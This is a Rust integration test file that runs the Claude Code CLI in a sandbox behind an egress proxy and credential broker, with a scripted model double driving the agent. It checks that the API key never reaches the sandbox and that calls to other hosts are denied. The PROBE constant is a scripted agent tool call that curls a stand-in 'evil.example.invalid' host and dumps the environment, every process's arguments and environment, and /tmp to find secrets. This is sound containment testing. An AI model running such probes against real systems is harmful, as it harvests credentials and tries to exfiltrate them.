//! The Claude Code reference harness (`harnesses/claude-code/run.sh`) with the
//! real CLI inside the bubblewrap sandbox, reaching the deterministic model
//! double's Anthropic Messages API only through a real egress proxy and
//! credential broker (issue 21).
//!
//! The double scripts the agent: create a file (Claude Code's `Edit` with an
//! empty `old_string`; `--bare` offers no `Write`), then run a shell command that
//! tries another host through the proxy and dumps what the sandbox holds
//! (environment, every process's arguments and environment, its private
//! `/tmp` with Claude Code's state) into `/out/probe`, then stop. The test
//! checks that the API key reached the endpoint on every model request, that
//! what Claude Code itself sent as `x-api-key` was only the harness's
//! placeholder, that the key appears nowhere in what the sandbox held, that
//! the other host was denied and audited, and that the edit comes back as a
//! bundle the validator accepts.
//!
//! Skipped with the reason when the CLI is not installed
//! (`scripts/install-agents.sh`) or proxied egress cannot run here, unless
//! `PROTOBOT_REQUIRE_AGENTS=1`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod proxied;

use std::path::PathBuf;

use protobot_jobsite::escalation::ModelFailure;
use protobot_model_double::{Scenario, Script, Step, ToolCall};
use protobot_repo::{
    bundle::collect_bundle,
    role::Role,
    validate::{Limits as BundleLimits, accept_bundle},
};
use proxied::harness::{Harness, HarnessKind, files_containing, hex_of};
use serde_json::json;

/// What the harness gives Claude Code as its key (harnesses/claude-code/run.sh).
const PLACEHOLDER_KEY: &str = "protobot-placeholder-the-egress-broker-holds-the-key";

/// Workers A and B may POST to the Messages API of the model host, with the
/// `model` credential; nothing else.
const POLICY: &str = r#"
rules:
  - role: worker-a
    destination: model.example.invalid
    method: POST
    path: /v1/messages
    credential: model
  - role: worker-b
    destination: model.example.invalid
    method: POST
    path: /v1/messages
    credential: model
"#;

/// The Claude Code binary, or `None` after printing why the test is skipped.
fn claude(test: &str) -> Option<PathBuf> {
    proxied::harness::agent_cli(test, "Claude Code", "PROTOBOT_CLAUDE", "claude")
}

const WORK_ITEM: &str = "wi-claude-code";
const GREET: &str = "echo hello\n";

/// The shell command the agent is told to run: another host through the
/// proxy (the Messages API path, so only the host differs), then a dump of
/// everything the sandbox holds. Its `/tmp` is a tmpfs of its own; the agent
/// CLI and the harness directory are bound read-only at their host paths,
/// which lie under `/tmp` when the clone does (a CI clone under `/tmp`).
/// `cp -x` stays on the tmpfs, so the dump is the sandbox's own `/tmp`
/// wherever the clone lives (the binds' contents are host files, not state).
const PROBE: &str = r#"mkdir -p /out/probe
T=$(cat "$PROTOBOT_EGRESS_SESSION_TOKEN_FILE")
curl -sS -o /out/probe/other.body -w '%{http_code}' -H "X-Sandbox-Session-Token: $T" -H 'Content-Type: application/json' -d '{"model":"scripted","max_tokens":1,"messages":[]}' "$PROTOBOT_EGRESS_PROXY/evil.example.invalid/v1/messages" > /out/probe/other.code
env > /out/probe/env
for p in /proc/[0-9]*; do printf '%s: ' "$p"; tr '\0' ' ' < "$p/cmdline"; echo; done > /out/probe/cmdlines 2>/dev/null
for p in /proc/[0-9]*; do cat "$p/environ"; echo; done > /out/probe/environs 2>/dev/null
cp -ax /tmp /out/probe/tmp 2>/dev/null
true"#;

fn script() -> Script {
    Script {
        scenarios: vec![Scenario {
            marker: format!("worker-b for {WORK_ITEM}"),
            failures: Vec::new(),
            steps: vec![
                Step::ToolCalls {
                    calls: vec![ToolCall {
                        name: "Edit".into(),
                        arguments: json!({"file_path": "/workspace/src/greet.sh", "old_string": "", "new_string": GREET}),
                    }],
                },
                Step::ToolCalls {
                    calls: vec![ToolCall {
                        name: "Bash".into(),
                        arguments: json!({"command": PROBE, "description": "probe the sandbox"}),
                    }],
                },
                Step::Text {
                    text: "Implemented REQ-GREET-00001 in src/greet.sh.".into(),
                },
            ],
        }],
    }
}

/// One harness run that exited 0, with what it ran against.
struct HarnessRun {
    harness: Harness,
    out: protobot_jobsite::executor::RunOutput,
}

/// Claude Code as `role` with `script` behind the proxy (`None`: skipped).
/// `task_model`: the model the task names (the tier's), which wins over the
/// class's `PROTOBOT_MODEL=claude-scripted`.
async fn prepare(
    test: &str,
    role: Role,
    script: Script,
    task_model: Option<&str>,
) -> Option<Harness> {
    prepare_with(test, role, script, task_model, Vec::new()).await
}

/// [`prepare`] with more `NAME=value` settings of the class's command.
async fn prepare_with(
    test: &str,
    role: Role,
    script: Script,
    task_model: Option<&str>,
    env: Vec<String>,
) -> Option<Harness> {
    let cli = claude(test)?;
    let kind = HarnessKind {
        test,
        folder: "claude-code",
        cli,
        cli_env: "PROTOBOT_CLAUDE",
        model: "claude-scripted",
        policy: POLICY,
        work_item: WORK_ITEM,
        task_model: task_model.map(|m| ("anthropic", m)),
        env,
    };
    proxied::harness::prepare(kind, role, script).await
}

async fn run_harness(
    test: &str,
    role: Role,
    script: Script,
    task_model: Option<&str>,
) -> Option<HarnessRun> {
    let harness = prepare(test, role, script, task_model).await?;
    let out = harness.run_ok().await;
    Some(HarnessRun { harness, out })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn claude_code_as_worker_b_reaches_the_model_only_through_the_proxy_and_never_holds_the_key()
{
    let Some(HarnessRun { harness, out }) = run_harness(
        "claude_code_harness_worker_b",
        Role::WorkerB,
        script(),
        None,
    )
    .await
    else {
        return;
    };
    let (proxy, report) = (&harness.proxy, &harness.report);
    let o = &out.out_dir;

    // Every model request reached the Messages endpoint with the broker's key,
    // for the allowed host only; what Claude Code sent as its key was the
    // harness's placeholder.
    let seen = proxy.double.requests();
    let tooled: Vec<_> = seen
        .iter()
        .filter(|r| {
            r.body
                .get("tools")
                .is_some_and(|t| t.as_array().is_some_and(|a| !a.is_empty()))
        })
        .collect();
    assert!(
        tooled.len() >= 3,
        "three scripted turns: {} requests",
        seen.len()
    );
    for r in &seen {
        assert!(r.path.starts_with("/v1/messages"), "{r:?}");
        assert_eq!(
            r.header("authorization"),
            Some(format!("Bearer {}", proxied::API_KEY).as_str())
        );
        assert_eq!(r.header("x-api-key"), Some(PLACEHOLDER_KEY), "{r:?}");
        assert_eq!(r.header("host"), Some(proxied::MODEL_HOST), "{r:?}");
        assert!(r.headers.keys().all(|k| !k.starts_with("x-sandbox")));
        assert_eq!(r.body["model"], "claude-scripted");
    }

    // The agent's attempt to reach another host was denied and audited.
    let tool_results: Vec<_> = seen
        .iter()
        .flat_map(|r| r.body["messages"].as_array().cloned().unwrap_or_default())
        .filter(|m| m["role"] == "user")
        .collect();
    let other = std::fs::read_to_string(o.join("probe/other.code"))
        .unwrap_or_else(|e| panic!("the probe did not run ({e}); user turns: {tool_results:?}"));
    assert_eq!(
        other.trim(),
        "403",
        "{:?}",
        std::fs::read_to_string(o.join("probe/other.body"))
    );
    let audit = proxied::audited(proxied::OTHER_HOST);
    assert!(
        audit
            .iter()
            .any(|l| l.contains("no-matching-rule") && l.contains(WORK_ITEM)),
        "{audit:?}"
    );
    assert!(proxy.decisions("denied") >= 1);
    assert!(proxy.decisions("allowed") >= 3);

    // The key is nowhere in what the sandbox held: its environment, every
    // process's arguments and environment, its /tmp (Claude Code's state,
    // settings and output), the workspace, or the harness's stderr.
    let env = std::fs::read_to_string(o.join("probe/env")).unwrap();
    assert!(env.contains("PROTOBOT_EGRESS_SESSION_TOKEN_FILE=/task/egress-session-token"));
    assert!(
        env.contains(&format!("ANTHROPIC_API_KEY={PLACEHOLDER_KEY}")),
        "Claude Code ran with the placeholder: {env}"
    );
    assert!(env.contains(&format!(
        "ANTHROPIC_BASE_URL=http://127.0.0.1:3128/{}",
        proxied::MODEL_HOST
    )));
    let cmdlines = std::fs::read_to_string(o.join("probe/cmdlines")).unwrap();
    assert!(
        cmdlines.contains("claude") && cmdlines.contains("--bare"),
        "the process list was captured: {cmdlines}"
    );
    let environs = std::fs::read_to_string(o.join("probe/environs")).unwrap();
    assert!(environs.contains("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1"));
    let settings = files_containing(&o.join("probe/tmp"), b"WebFetch");
    assert!(
        settings
            .iter()
            .any(|p| p.file_name().is_some_and(|n| n == "settings.json")),
        "Claude Code's settings were captured: {settings:?}"
    );
    let leaked = files_containing(o, proxied::API_KEY.as_bytes());
    assert!(
        leaked.is_empty(),
        "the API key reached the sandbox: {leaked:?}"
    );
    assert!(!out.stderr_tail.contains(proxied::API_KEY));

    // The agent's edit comes back as a bundle the validator accepts.
    let bundle =
        collect_bundle(&o.join("worker"), &report.record, &BundleLimits::default()).unwrap();
    let accepted = accept_bundle(bundle, &report.record, &BundleLimits::default())
        .unwrap_or_else(|r| panic!("the bundle was refused: {r:?}"));
    let changes: Vec<_> = accepted
        .bundle()
        .commits
        .iter()
        .flat_map(|c| c.changes.iter())
        .collect();
    assert_eq!(changes.len(), 1, "{changes:?}");
    assert_eq!(changes[0].path, "src/greet.sh");
    assert_eq!(
        changes[0].content_hex.as_deref(),
        Some(hex_of(GREET.as_bytes()).as_str())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn claude_code_as_worker_a_gets_the_test_instructions_and_the_tasks_model_and_its_tests_come_back_validated()
 {
    let test_file = "test \"$(sh src/greet.sh)\" = hello || exit 1\ntest -z \"$(sh src/greet.sh extra 2>/dev/null)\" || exit 1\n";
    let script = Script {
        scenarios: vec![Scenario {
            marker: format!("worker-a for {WORK_ITEM}"),
            failures: Vec::new(),
            steps: vec![Step::ToolCalls {
                calls: vec![ToolCall {
                    name: "Edit".into(),
                    arguments: json!({"file_path": "/workspace/tests/greet_args.sh", "old_string": "", "new_string": test_file}),
                }],
            }],
        }],
    };
    let Some(HarnessRun { harness, out }) = run_harness(
        "claude_code_harness_worker_a",
        Role::WorkerA,
        script,
        Some("claude-tier-two"),
    )
    .await
    else {
        return;
    };
    let (proxy, report) = (&harness.proxy, &harness.report);
    // The model the task named for its tier is the one asked for.
    let seen = proxy.double.requests();
    assert!(!seen.is_empty());
    for r in &seen {
        assert_eq!(r.body["model"], "claude-tier-two", "{:?}", r.path);
    }
    // The prompt carried Worker A's instructions and the task's requirement.
    let prompt = seen
        .iter()
        .flat_map(|r| r.body["messages"].as_array().cloned().unwrap_or_default())
        .filter(|m| m["role"] == "user")
        .map(|m| m.to_string())
        .find(|t| t.contains("protobot task: worker-a for"))
        .expect("the harness's prompt reached the model");
    assert!(
        prompt.contains("You are Worker A. Write automated tests"),
        "{prompt}"
    );
    assert!(prompt.contains("REQ-GREET-00001"), "{prompt}");
    assert!(!prompt.contains("You are Worker B"));
    // Worker A never sees the implementation, and its test comes back accepted.
    assert!(!report.dest.join("src/README").exists());
    assert_eq!(harness.bundle_paths(&out), ["tests/greet_args.sh"]);
}

/// Creating `src/greet.sh`, after the model answers `failures` first.
fn greet_with_outage(failures: Vec<u16>) -> Script {
    let write = ToolCall {
        name: "Edit".into(),
        arguments: json!({"file_path": "/workspace/src/greet.sh", "old_string": "", "new_string": GREET}),
    };
    proxied::harness::one_edit_after_outage(WORK_ITEM, write, failures)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn claude_code_rides_out_a_brief_model_outage_with_its_own_retries() {
    let test = "claude_code_harness_brief_outage";
    let Some(harness) = prepare(test, Role::WorkerB, greet_with_outage(vec![529, 503]), None).await
    else {
        return;
    };
    harness.assert_rides_out(2, &["src/greet.sh"]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn claude_code_reports_an_outage_it_cannot_ride_out_and_the_job_sites_retry_succeeds() {
    let test = "claude_code_harness_long_outage";
    // Claude Code's own retries back off for minutes (10 by default); the class lets it
    // retry twice, as a platform would that leaves retrying to the Job Site.
    let Some(harness) = prepare_with(
        test,
        Role::WorkerB,
        greet_with_outage(vec![503; 64]),
        None,
        vec!["PROTOBOT_MODEL_RETRIES=2".into()],
    )
    .await
    else {
        return;
    };
    // A 5xx: retried by the Job Site on the same tier after a backoff.
    let answered = harness
        .assert_reports_outage_then_recovers(
            ModelFailure::Status(503),
            "model-network",
            &["src/greet.sh"],
        )
        .await;
    assert_eq!(
        answered, 3,
        "Claude Code tried once and retried twice (PROTOBOT_MODEL_RETRIES=2)"
    );
}
